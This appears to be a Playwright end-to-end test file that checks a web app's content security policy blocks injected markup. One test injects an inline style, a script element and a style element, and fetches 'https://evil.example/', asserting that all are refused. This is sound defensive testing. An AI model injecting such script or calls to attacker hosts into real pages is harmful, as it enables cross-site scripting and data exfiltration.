"""The content security policy: it forbids what an attacker's markup would need, and no page of ours asks for that."""

import re

from playwright.sync_api import Browser, Page, expect

from tests.e2e.library import Library
from tests.e2e.test_screens import SCREENS
from tests.e2e.visitor import Visitor

_LISTEN = """
window.forbidden = []
document.addEventListener('securitypolicyviolation', (event) => {
  window.forbidden.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`)
})
"""


def forbidden(page: Page) -> list[str]:
    """Return what the page's policy has forbidden so far; the page has to have had `_LISTEN` from its beginning."""
    found: list[str] = page.evaluate("window.forbidden")
    return found


def test_markup_that_got_into_a_page_can_neither_run_nor_style_nor_send(browser: Browser, address: str) -> None:
    page = browser.new_page()
    page.add_init_script(_LISTEN)
    page.goto(f"{address}/sign-in")
    expect(page.get_by_role("heading", name="Welcome back")).to_be_visible()

    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\" id=\"styled\">x</p>')")
    page.evaluate("document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = true'}))")
    page.evaluate("document.body.append(Object.assign(document.createElement('style'), {textContent: 'p { top: 0 }'}))")
    sent = page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'refused')")

    assert page.evaluate("window.ran") is None
    assert page.evaluate("getComputedStyle(document.getElementById('styled')).color") != "rgb(255, 0, 0)"
    assert sent == "refused"
    directives = {one.split(" ")[0] for one in forbidden(page)}
    assert directives == {"style-src-attr", "script-src-elem", "style-src-elem", "connect-src"}
    page.context.close()


def test_no_screen_asks_for_what_the_policy_forbids(visitor: Visitor, library: Library) -> None:
    page = visitor.page
    page.add_init_script(_LISTEN)
    visitor.sign_in(library.account)
    found: dict[str, list[str]] = {"sign-in": forbidden(page)}

    for screen in SCREENS:
        screen(visitor, library)
        found[screen.__name__] = forbidden(page)
    visitor.visit("/places")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    found["places"] = forbidden(page)

    assert found == {screen: [] for screen in found}


def test_the_docs_explorer_asks_for_nothing_that_the_policy_forbids(visitor: Visitor) -> None:
    page = visitor.page
    page.add_init_script(_LISTEN)
    visitor.visit("/docs/")
    operation = page.locator(".opblock-get").filter(
        has=page.locator(".opblock-summary-path", has_text=re.compile(r"^/api/v1/search$"))
    )
    operation.locator(".opblock-summary-control").click()
    expect(operation.get_by_role("button", name="Execute")).to_be_visible()
    page.get_by_role("button", name="Authorize").first.click()
    expect(page.locator(".dialog-ux")).to_be_visible()

    assert forbidden(page) == []
